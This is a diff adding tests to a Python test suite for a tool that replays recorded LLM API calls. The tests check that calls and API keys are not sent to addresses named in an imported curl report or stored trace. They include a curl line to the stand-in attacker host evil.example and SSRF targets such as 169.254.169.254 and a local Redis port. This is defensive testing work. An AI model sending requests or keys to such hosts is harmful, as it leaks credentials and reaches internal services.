@@ -19,11 +19,13 @@ from reroll.intake.casing import key_of, place
 from reroll.intake.formats import FORMATS, format_of, read_files
 from reroll.intake.founding import Founding
 from reroll.intake.recording import Recording
-from reroll.intake.single import single_call
+from reroll.intake.single import Served, single_call, single_stored
 from reroll.intake.taken import Skipped, Taken, Value
 from reroll.intake.traffic import take_in
+from reroll.program import Request
 from reroll.project import load_project
-from reroll.store import Store
+from reroll.sample import Completion, Sample
+from reroll.store import NewSample, Store
 from tests.background import in_background, in_turn, reroll
 
 if sys.version_info >= (3, 14):
@@ -638,6 +640,45 @@ def test_a_traced_call_is_investigated_with_what_is_not_known_of_it(tmp_path: Pa
     assert ran.json["report"]["saw"] == "4"
     assert "the messages are known whole, the parameters only in part" in ran.json["caveats"][0]
     assert json.loads(server.bodies[0]) == {"model": "tiny", "messages": MESSAGES, "temperature": 0.7}
+
+
+def curl_to(tmp_path: Path, address: str) -> Path:
+    ask = json.dumps({"model": "tiny", "messages": MESSAGES})
+    path = tmp_path / "call.sh"
+    path.write_text(f"curl {address}/chat/completions -H 'Content-Type: application/json' -d '{ask}'\n")
+    return path
+
+
+def test_no_report_alone_says_where_calls_and_keys_go(tmp_path: Path, capsys: Any, monkeypatch: Any) -> None:
+    monkeypatch.setenv("REROLL_API_KEY", "a-key-for-somewhere-else")
+    report = curl_to(tmp_path, "https://evil.example/v1")
+    ran = reroll(capsys, "investigate", "--request", report, "--expect", "equals: '4'", "--project", tmp_path)
+    assert ran.code == 2
+    assert "say so with --base-url https://evil.example/v1" in ran.complaint
+    with in_background(in_turn("4")) as (server, url):
+        here = ["--base-url", url, "--project", tmp_path, "--budget", "6", "--json"]
+        ran = reroll(capsys, "investigate", "--request", report, "--expect", "equals: '4'", *here)
+    assert ran.json["luck"]["rate"]["failures"] == 0
+    assert server.calls > 0
+
+
+def test_what_the_project_says_of_its_model_holds_for_a_report_too(tmp_path: Path) -> None:
+    called = single_call(curl_to(tmp_path, "https://evil.example/v1"), Served("openai:tiny", None, whole=True))
+    assert called.program.base_url is None  # the vendor's, as the project has it
+    assert any("It was recorded at https://evil.example/v1" in caveat for caveat in called.caveats)
+    assert single_call(curl_to(tmp_path, "http://127.0.0.1:8080/v1")).program.base_url == "http://127.0.0.1:8080/v1"
+
+
+def test_whoever_may_send_traces_cannot_say_where_they_are_sent_again(tmp_path: Path) -> None:
+    for address in ("https://evil.example/v1", "http://127.0.0.1:6379/v1", "http://169.254.169.254/v1"):
+        request = Request("openai:tiny", address, {"messages": MESSAGES})
+        with Store.open(":memory:") as store:
+            store.put_request("rq1:0", request, "x")
+            store.add_samples([NewSample(Sample(Completion("4")), "rq1:0", "s", 0, "p", "a", source="imported")])
+            (stored,) = store.samples()
+        with pytest.raises(UsageError, match="say so with --base-url"):
+            single_stored(stored, request)
+        assert single_stored(stored, request, Served("openai:tiny", None, whole=True)).program.base_url is None
 
 
 # -- bad input ---------------------------------------------------------------------------------------------------------
